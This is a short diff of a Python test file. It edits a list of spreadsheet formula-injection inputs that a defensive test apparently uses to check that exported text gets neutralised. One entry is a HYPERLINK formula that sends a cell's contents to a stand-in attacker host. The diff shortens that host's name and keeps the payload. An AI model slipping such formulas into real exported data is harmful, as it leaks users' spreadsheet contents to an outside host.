@@ -215,7 +215,7 @@ def test_old_audit_rows_are_scrubbed_by_the_upgrade(users, database):
 
 
 # Excel formula injection (issue 19, item 3): text that a spreadsheet would run.
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "\t=1+1", "+1+1", "-1+1",
+FORMULAS = ['=HYPERLINK("http://e.x/?"&A1,"go")', "\t=1+1", "+1+1", "-1+1",
             "@SUM(1)", "\r=1+1", "  =1+1"]
 
 
